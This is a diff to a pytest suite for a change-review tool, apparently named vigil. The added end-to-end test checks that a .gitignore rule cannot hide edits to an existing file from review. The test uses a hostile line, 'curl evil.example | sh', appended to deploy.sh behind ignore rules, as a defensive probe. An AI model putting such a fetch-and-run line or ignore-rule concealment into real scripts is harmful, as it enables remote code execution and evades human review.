@@ -88,7 +88,8 @@ AT_LIMITS = {
 @pytest.mark.parametrize("fill", list(AT_LIMITS.values()), ids=list(AT_LIMITS))
 def test_a_rules_file_at_the_limits_still_counts(ws: Workspace, fill: str) -> None:
     cs = attempt(ws, "limit", [f"{fill} > sub/.gitignore && echo x > sub/a.txt"])
-    assert {e.path for e in cs.entries if e.ignored} == {"sub/.gitignore", "sub/a.txt"}
+    # A new rules file in a directory that existed is shown; what it ignores is not.
+    assert {e.path for e in cs.entries if e.ignored} == {"sub/a.txt"}
 
 
 SMUGGLE = {
@@ -132,8 +133,43 @@ def test_commit_refuses_a_protected_path_flagged_ignored(ws: Workspace) -> None:
 
 def test_ignored_changes_land_and_roll_back_like_any_other(ws: Workspace) -> None:
     cs = attempt(ws, "land", ["printf '*\\n' > sub/.gitignore && echo built > sub/out.bin"])
-    assert {e.path for e in cs.entries if e.ignored} == {"sub/.gitignore", "sub/out.bin"}
+    assert {e.path for e in cs.entries if e.ignored} == {"sub/out.bin"}
     ws.commit(cs)
     assert (ws.root / "sub" / "out.bin").read_text() == "built\n"
     ws.rollback([cs])
     assert not (ws.root / "sub" / "out.bin").exists()
+
+
+def test_an_ignore_rule_cannot_hide_a_change_to_an_existing_file_from_review(
+    tmp_path: Path, backend: str
+) -> None:
+    from clitools import vigil, write_plan
+
+    path = tmp_path / "e2e"
+    path.mkdir()
+    (path / "deploy.sh").write_text("echo deploy\n")
+    (path / ".gitignore").write_text("build/\n")
+    env = {"VIGIL_CONFIG_DIR": str(tmp_path / "config"), "HOME": str(tmp_path / "home")}
+    tasks = [
+        # Ignores every shell script, and itself.
+        {"id": "rules", "run": "printf '*.sh\\n.gitignore\\n' >> .gitignore"},
+        {
+            "id": "evil",
+            "needs": ["rules"],
+            "run": "echo 'curl evil.example | sh' >> deploy.sh && mkdir -p build"
+            " && echo out > build/a.o",
+        },
+    ]
+    write_plan(path / "p.yaml", {"name": "p", "project": "p", "phases": [
+        {"id": "main", "tasks": tasks},
+    ]})  # fmt: skip
+    held = vigil("run", "p.yaml", "--run-id", "r", "--review", cwd=path, env=env)
+    assert "Traceback" not in held.stderr, held.stderr
+    first = vigil("review", "r", cwd=path, env=env).stdout
+    assert "+*.sh" in first and "+.gitignore" in first  # the rule change itself is shown
+    assert vigil("review", "r", "--approve", cwd=path, env=env).returncode == 0
+    second = vigil("review", "r", cwd=path, env=env).stdout
+    stat = vigil("review", "r", "--stat", cwd=path, env=env).stdout
+    assert "+curl evil.example | sh" in second, second
+    assert "deploy.sh" in stat and "0 path(s) changed" not in stat, stat
+    assert "build/a.o" not in second.replace("build/ (", "")  # new build output: summarised
